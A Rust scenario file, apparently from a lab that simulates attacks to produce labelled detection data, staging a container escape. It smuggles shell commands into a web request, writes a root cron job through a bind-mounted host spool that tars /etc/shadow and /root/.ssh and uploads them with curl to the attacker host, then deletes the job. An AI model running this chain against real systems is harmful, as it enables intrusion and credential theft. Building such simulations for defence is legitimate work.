//! A service in a container shows the host's spool; through a hole in it, a job for the host's cron is put there.
//!
//! Hard because: containers start all the time, one of them cleans up below the host's folders, and cron runs jobs every minute.

use crate::Lab;
use crate::life::status::{self, Contained};
use crate::life::{containers, web};
use crate::network::get;
use crate::program::user;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let (host, attacker) = (containers::host(lab, "box-1")?, lab.outsider("attacker")?);
    host.put("/var/spool/cron/crontabs/.keep", "", 0o600)?;
    host.put("/var/spool/jobs/day.txt", &"done\n".repeat(40), 0o644)?;
    let status = Contained { user: user::ROOT, folder: "/mnt/jobs", binds: &["/var/spool:/mnt"] };
    containers::service(lab, &host, &status, "day.txt")?;
    web::take_upload(&attacker)?;
    lab.wait(15..22);
    for _ in lab.rounds(0) {
        containers::look_after(lab, &host)?;
        lab.wait(15..30);
    }

    let attack = lab.attack("container escape through a path of the host")?;
    let call = |commands: &str| get(&attacker, host.address, status::PORT, &format!("/tail?day.txt; {commands}"));
    let step = attack.step("a look around in the container", &["T1190", "T1059.004", "T1083"]);
    step.remote(&host, &attacker);
    let look = *lab.pick(&["cat /proc/1/cgroup", "ls -la /", "cat /etc/passwd"]);
    let said = call(&format!("{} id; {look}; ls -ld /mnt/cron/crontabs", containers::mark(&step, &host)?))?;
    ensure!(said.contains("uid=0") && said.contains("crontabs"), "the container was not entered: {said}");
    drop(step);
    lab.wait(3..7);

    let (state, inside) = (format!("/var/tmp/.{}", lab.word(6)), "/mnt/cron/crontabs/root");
    let step = attack.step("a job for the host is left", &["T1611", "T1053.003"]);
    step.remote(&host, &attacker);
    // The same file, as the container and as the host sees it.
    for path in [inside, "/var/spool/cron/crontabs/root"] {
        step.file(&host, path);
    }
    let next = attack.step("the host runs it", &["T1053.003", "T1003.008", "T1041"]);
    let job = format!(
        "* * * * * {} [ -e {state} ] || tar -cf - /etc/shadow /root/.ssh 2>/dev/null | curl -s -T - http://{}/; id > {state}",
        next.mark(&host)?,
        attacker.address
    );
    call(&format!("{} echo \"{job}\" > {inside}; chmod 600 {inside}", containers::mark(&step, &host)?))?;
    drop(step);

    next.begin();
    next.remote(&host, &attacker);
    next.file(&host, &state);
    host.wait_for_file(&state)?;
    drop(next);
    lab.wait(2..5);

    let step = attack.step("the job is removed", &["T1070.004"]);
    step.remote(&host, &attacker);
    call(&format!("{} rm {inside}", containers::mark(&step, &host)?))?;
    drop(step);
    lab.wait(8..14);
    Ok(())
}
